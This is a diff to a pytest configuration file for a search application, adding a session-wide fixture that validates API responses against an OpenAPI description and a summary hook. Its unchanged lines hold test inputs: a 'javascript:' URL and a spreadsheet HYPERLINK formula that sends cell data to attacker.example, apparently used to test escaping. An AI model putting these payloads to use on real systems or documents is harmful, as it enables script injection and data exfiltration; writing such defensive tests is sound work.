@@ -14,6 +14,8 @@ from index_config.entries import IndexableDocument
 from search_app import create_app
 from search_app.backends.embedded import EmbeddedBackend
 
+from .openapi_check import checking_clients, summary
+
 HOSTILE_URL = "javascript:alert(document.domain)"
 FORMULA_COMMISSION = '=HYPERLINK("http://attacker.example/?"&A1,"ver")'
 SENTENCES = (
@@ -94,3 +96,14 @@ def archive(tmp_path_factory) -> Archive:
 @pytest.fixture()
 def client(archive):
     return archive.client()
+
+
+@pytest.fixture(scope="session", autouse=True)
+def api_contract():
+    """Every response to /api/ and the feed in these tests is checked against the OpenAPI description."""
+    with checking_clients():
+        yield
+
+
+def pytest_terminal_summary(terminalreporter):
+    terminalreporter.write_line(summary())
